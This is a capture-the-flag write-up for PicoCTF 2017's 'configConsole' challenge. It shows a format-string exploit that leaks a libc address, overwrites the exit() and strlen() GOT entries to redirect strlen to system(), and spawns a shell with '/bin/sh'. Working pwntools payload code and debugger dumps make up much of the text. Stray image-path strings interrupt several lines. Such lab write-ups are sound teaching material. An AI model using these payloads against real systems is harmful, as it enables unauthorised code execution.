Tags: binexploit


# Level 3 - configConsole

Config Console
In order to configure the login messsage for all the users on the system, you've been given access to a configuration console.
See if you can get a shell on shell2017.picoctf.com:47232.


You can either see where libc is or modify the execution.
Is there a way to get the vulnerability to run twice so that you can do both?
There's a place in libc that will give you a shell as soon as you jump to it. Try looking for execve.

The vulnerable piece of code is here:
void set_exit_message(char *message) {
if (!message) {
printf("No message chosen\n");
printf("Exit message set!\n");
printf(message); //<---HERE

append_command('e', message);
This is obviously a FSB. But there is a call to exit(0) right afterwards, so how can we get around this?

I did this by leaking a libc address and updating the GOT entry for exit() in one statement:# Set the exit message, since that has the vulnerable printf()
# First print out a leaked address to use. Then update write to GOT
# to update the lower 2Bytes of the exit() address with something
# that doesn't do anything. Thereby just returning instead of exiting
payload = 'e'
payload += '___'
payload += p64(0x4141414141414141)
payload += ' %25$p%{}c%19$hn'.format(int(0xb45-14))
payload += 'AAAAA'
payload += p64(0x601258)
print r.sendline(payload)
We need to use the libc leak to find the base LIBC address.

The pointer on the stack that points to libc at stack location 19:
Break at *set_exit_message+61
pwndbg> telescope 48
00:0000│ rsp 0x7ffeaa6ed7b0 ◂— 0x0
01:0008│ 0x7ffeaa6ed7b8 —▸ 0x7ffeaa6ed801 ◂— 0x3832257024353225 ('%25$p%28')
02:0010│ rbp 0x7ffeaa6ed7c0 —▸ 0x7ffeaa6edc00 —▸ 0x7ffeaa6edc20 ◂— 0x0
03:0018│ 0x7ffeaa6ed7c8 —▸ 0x400aa6 (loop+233) ◂— jmp 0x400ace
04:0020│ 0x7ffeaa6ed7d0 —▸ 0x7ffeaa6ed900 —▸ 0x7fe6650dbc58 ◂— pop rsi
05:0028│ 0x7ffeaa6ed7d8—▸ 0x7ffeaa6ed7f0 ◂— 0x5f5f5f5f5f5f5f65 ('e___')
... ↓
07:0038│ 0x7ffeaa6ed7e8 —▸ 0x7ffeaa6ed801 ◂— 0x3832257024353225 ('%25$p%28')
08:0040│ 0x7ffeaa6ed7f0 ◂— 0x5f5f5f5f5f5f5f65 ('e___')
09:0048│ 0x7ffeaa6ed7f8 ◂— u'AAAAAAAA'
0a:0050│ rdi-1 0x7ffeaa6ed800 ◂— 0x32257024353225000b:0058│ 0x7ffeaa6ed808 ◂— 0x2439312563313738 ('871c%19$')
0c:0060│ 0x7ffeaa6ed810 ◂— 0x4141414141206e68 ('hn AAAAA')
0d:0068│ 0x7ffeaa6ed818 —▸ 0x601258 ([email protected]) —▸ 0x400736 ([email protected]+6) ◂— push 0xa /* u'h\n' */
0e:0070│ 0x7ffeaa6ed820 ◂— 0x10000000a /* u'\n' */
0f:0078│ 0x7ffeaa6ed828 ◂— 0x1000008a2
10:0080│ 0x7ffeaa6ed830 ◂— 0x100010000
11:0088│ 0x7ffeaa6ed838 —▸ 0x7fe665695db0 —▸ 0x7fe665476796 ◂— pop r15 /* u'GLIBC_2.2.5' */
12:0090│ 0x7ffeaa6ed840 —▸ 0x7ffeaa6ed990 ◂— 0x0
13:0098│ 0x7ffeaa6ed848 —▸ 0x7fe66547ec1c (check_match+300)◂— test eax, eax
14:00a0│ 0x7ffeaa6ed850 —▸ 0x7ffeaa6eda50 ◂— 0x0
15:00a8│ 0x7ffeaa6ed858 ◂— 0x42a5a955
16:00b0│ 0x7ffeaa6ed860 ◂— 0x2
17:00b8│ 0x7ffeaa6ed868 ◂— 0x3
18:00c0│ 0x7ffeaa6ed870 —▸ 0x7fe665695a68 —▸ 0x7fe6656981a8 ◂— 0x0
This is pointer we leaked `13:0098│ 0x7ffeaa6ed848 —▸ 0x7fe66547ec1c (check_match+300) ◂— test eax, eax`

Now we check the memory map:
pwndbg> vmmap
0x400000 0x401000 r-xp 1000 0/home/code/code/pico2017/l3_configConsole/console
0x601000 0x602000 rw-p 1000 1000 /home/code/code/pico2017/l3_configConsole/console
0x1296000 0x12b7000 rw-p 21000 0 [heap]
0x7fe6650cb000 0x7fe66526c000 r-xp 1a1000 0 /home/code/code/pico2017/l3_configConsole/libc.so.6.remote
0x7fe66526c000 0x7fe66546c000 ---p 200000 1a1000 /home/code/code/pico2017/l3_configConsole/libc.so.6.remote
0x7fe66546c000 0x7fe665470000 r--p 4000 1a1000 /home/code/code/pico2017/l3_configConsole/libc.so.6.remote
0x7fe665470000 0x7fe665472000 rw-p 2000 1a5000 /home/code/code/pico2017/l3_configConsole/libc.so.6.remote
0x7fe665472000 0x7fe665476000 rw-p 4000 0
0x7fe665476000 0x7fe665496000 r-xp 20000 0 /lib/x86_64-linux-gnu/ld-2.19.so
0x7fe66568f000 0x7fe665696000 rw-p 7000 0
0x7fe665696000 0x7fe665697000 r--p 1000 20000 /lib/x86_64-linux-gnu/ld-2.19.so
0x7fe665697000 0x7fe665698000 rw-p 1000 21000 /lib/x86_64-linux-gnu/ld-2.19.so
0x7fe665698000 0x7fe665699000 rw-p 1000 0
0x7ffeaa6cd000 0x7ffeaa6ee000 rw-p 21000 0 [stack]
0x7ffeaa7d0000 0x7ffeaa7d2000 r-xp 2000 0 [vdso]
0x7ffeaa7d2000 0x7ffeaa7d4000 r--p 2000 0 [vvar]
0xffffffffff600000 0xffffffffff601000 r-xp 1000 0 [vsyscall]
Now it's simple math. `0x7fe66547ec1c - 0x7fe6650cb000 = 0x3b3c1c`. It should be noted that I ran the application on a Debian system as close to the server setup as possible andPRELOADED the remote version of LIBC so that I could test with the exact version used on the server. This gives us an offset that I can always use to substract from the leaked value and get the base libc value.

Using the base libc value, we can use pwnlib builtin functionality to calculate the address of the `system()` function:
# Calculate libc base address
data = r.recvuntil(' ')
leak = int(data,16)
print hex(leak)
libc_base = leak - LIBC_OFFSET
print hex(libc_base)
libc.address = libc_base
print 'libc system: ' + hex(libc.symbols['system'])
addr1 = libc.symbols['system'] & 0xFFFF
addr2 = (libc.symbols['system'] >> 16) &0xFFFF
addr3 = (libc.symbols['system'] >> 32) &0xFFFF

If we break at `b *set_exit_message+61` and investigate the memory values we see:Before printf is called: `0x601258 ([email protected]) —▸ 0x400736 ([email protected]+6)`
After printf is called: `0x601258 ([email protected]) —▸ 0x400b45 (main+114)`

So whenever exit() is called it will jump back into main+114 instead.

So now we have two things:
* Libc leaked address
* Ability to do more calls to the vulnerable printf

The hint says that there is a place in libc that we can jump tothat will give you a shell.
That's nice and all, but is very libc binary specific and doesn't work for all libc libraries.
Let's do it in a more robust way.

Next, we want to find a function that will take a pointer, preferably to a string we control.
void set_prompt(char *prompt) {
if (!prompt) {
printf("No prompt chosen\n");
if (strlen(prompt) > 10) { //<--- This looks perfect
printf("Prompt too long\n");
printf("Login prompt set to: %10s\n", prompt);

append_command('p', prompt);
Great, and `strlen()` is only used here, so we're safe to update that with multiple writes
#Start overwriting the GOT entry for strlen()
#update it with the address of system()
payload = 'e '
payload += '%{}c%17$hn '.format(int(addr1))
payload += 'A'*(8)
payload += p64(0x601210)

print r.sendline(payload)

payload = 'e '
payload += '%{}c%18$hn '.format(int(addr2))
payload += 'A'*(8+8)
payload += p64(0x601210+2)

print r.sendline(payload)

payload = 'e '
payload += '%{}c%19$hn '.format(int(addr3))
payload += 'A'*(8+8+8)
payload += p64(0x601210+4)

print r.sendline(payload)Now at this point, if we look at the GOT entry for strlen() we have:
`0x601210 ([email protected]) —▸ 0x7fb0701b3490 (system)`
Perfect. Now we just have to pass the right parameter to `system()`

# strlen() in GOT is now overwritten
# since prompt calls strlen on string passed
# we can input string directly here
print r.sendline('p /bin/sh')
print "You should now have shell"

# Drop to interactive consoleFull exploit code in the [exploit.py](exploit.py) file.

Original writeup(https://github.com/Caesurus/PicoCTF2017/tree/master/L3_ConfigConsole).